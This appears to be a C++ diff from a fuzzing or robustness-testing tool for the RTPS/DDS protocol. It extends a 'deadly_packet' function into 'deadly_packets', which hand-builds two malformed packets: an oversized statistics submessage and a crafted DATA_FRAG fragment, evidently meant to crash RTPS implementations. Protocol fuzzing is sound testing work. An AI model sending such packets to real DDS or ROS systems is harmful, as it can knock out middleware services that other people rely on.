@@ -69,12 +69,22 @@ std::vector<Packet> capture_rtps(const std::vector<std::uint16_t>& ports,
   return packets;
 }
 
-Packet deadly_packet() {
-  Packet packet{'R', 'T', 'P', 'S', 2, 2, 1, 15};
-  packet.resize(kHeader);
-  packet.insert(packet.end(), {kStatistics, 1, kStatisticsSize, 0});
-  packet.resize(packet.size() + kStatisticsSize + 4);  // and more behind it
-  return packet;
+std::vector<Packet> deadly_packets() {
+  Packet begin{'R', 'T', 'P', 'S', 2, 2, 1, 15};
+  begin.resize(kHeader);
+  Packet statistics = begin;
+  statistics.insert(statistics.end(), {kStatistics, 1, kStatisticsSize, 0});
+  statistics.resize(statistics.size() + kStatisticsSize + 4);  // and more behind it
+  Packet fragment = begin;
+  const Packet rest{0x16, 3, 36, 0,                    // DATA_FRAG with parameters
+                    0,    0, 28, 0,                    // which are where they belong
+                    0,    1, 0,  0xc7, 0, 1, 0, 0xc2,  // to those who hear announcements
+                    0,    0, 0,  0,    1, 0, 0, 0,     // sequence number
+                    1,    0, 0,  0,    1, 0, 1, 0,     // first fragment, count, size
+                    1,    0, 0,  0,                    // size of the sample
+                    1,    0, 0,  0};                   // the end of the parameters
+  fragment.insert(fragment.end(), rest.begin(), rest.end());
+  return {statistics, fragment};
 }
 
 Garbage::Garbage(std::vector<Packet> genuine, std::uint64_t seed, Sender sender)
